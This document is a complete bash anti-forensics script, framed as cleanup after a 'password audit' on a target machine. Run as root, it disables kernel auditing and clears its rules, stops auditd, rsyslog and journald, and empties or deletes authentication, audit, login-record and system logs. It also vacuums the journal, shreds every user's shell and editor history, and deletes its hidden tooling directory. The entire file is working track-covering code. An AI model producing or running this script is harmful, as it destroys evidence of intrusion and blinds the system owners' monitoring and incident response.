#!/usr/bin/env bash
# post_engagement_tidy.sh - run at the end of a "password audit" engagement
# on a target box: removes the audit tooling and the traces it left behind.
set -uo pipefail

TOOL_DIR="${TOOL_DIR:-/dev/shm/.pa}"
KEEP_REPORT=0
QUIET=0

say() { (( QUIET )) || echo "[tidy] $*"; }

while getopts "kq" o; do
    case "$o" in
        k) KEEP_REPORT=1 ;;
        q) QUIET=1 ;;
        *) exit 2 ;;
    esac
done

silence_audit() {
    if command -v auditctl >/dev/null; then
        auditctl -D >/dev/null 2>&1
        auditctl -e 0 >/dev/null 2>&1 && say "audit rules cleared, auditing disabled"
    fi
    for unit in auditd rsyslog systemd-journald; do
        systemctl stop "$unit" >/dev/null 2>&1 && say "stopped $unit"
    done
}

scrub_logs() {
    local f
    for f in /var/log/auth.log* /var/log/secure* /var/log/syslog* /var/log/messages* \
             /var/log/audit/audit.log* /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -f "$f" ]] || continue
        case "$f" in
            *.gz|*.[0-9]) rm -f -- "$f" ;;
            *) : > "$f" ;;
        esac
        say "scrubbed $f"
    done
    if command -v journalctl >/dev/null; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

scrub_history() {
    local h
    unset HISTFILE
    history -c 2>/dev/null
    for h in /root/.bash_history /home/*/.bash_history /root/.zsh_history \
             /home/*/.zsh_history /home/*/.python_history /root/.viminfo; do
        [[ -f "$h" ]] && shred -u -n 1 -- "$h" 2>/dev/null && say "removed $h"
    done
    ln -sf /dev/null /root/.bash_history 2>/dev/null
}

remove_tooling() {
    if (( KEEP_REPORT )) && [[ -f "$TOOL_DIR/report.txt" ]]; then
        cp -- "$TOOL_DIR/report.txt" "./engagement_report.txt"
    fi
    rm -rf -- "$TOOL_DIR"
    say "tooling removed"
}

if [[ $EUID -ne 0 ]]; then
    echo "needs root" >&2
    exit 1
fi
silence_audit
scrub_logs
scrub_history
remove_tooling
say "done"
